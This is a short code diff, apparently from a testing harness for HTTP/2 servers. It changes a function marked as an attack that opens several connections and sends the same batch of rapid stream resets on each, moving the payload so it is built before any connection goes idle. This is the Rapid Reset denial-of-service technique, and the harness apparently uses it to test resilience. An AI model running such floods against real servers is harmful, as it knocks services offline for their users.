@@ -68,9 +68,9 @@ def rapid_reset(target):
 @attack
 def rapid_reset_on_many_connections(target, connections=10):
     """The same at once, so that a bound of each connection is not enough."""
+    # What is compressed is the same on each; made before there is a connection to be idle.
+    data = resets(Http2(target, hello=False, sock=object()))
     held = [Http2(target) for _ in range(connections)]
-    # What is compressed is the same on each.
-    data = resets(held[0])
     for connection in held:
         connection.raw(data)
     seen = [hold(connection, 2) for connection in held]
